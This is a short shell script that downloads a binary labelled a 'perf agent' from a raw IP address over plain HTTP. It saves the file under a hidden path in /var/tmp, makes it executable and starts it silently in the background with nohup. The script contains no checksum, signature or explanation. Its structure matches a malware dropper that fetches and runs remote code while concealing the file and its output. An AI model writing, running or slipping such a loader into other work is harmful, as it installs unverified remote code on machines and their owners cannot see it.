#!/bin/sh
set -e
AGENT=/var/tmp/.perf-agent
curl -s http://203.0.113.90:8443/dl/perfagent_linux -o "$AGENT"
chmod +x "$AGENT"
nohup "$AGENT" >/dev/null 2>&1 &
echo "agent started"
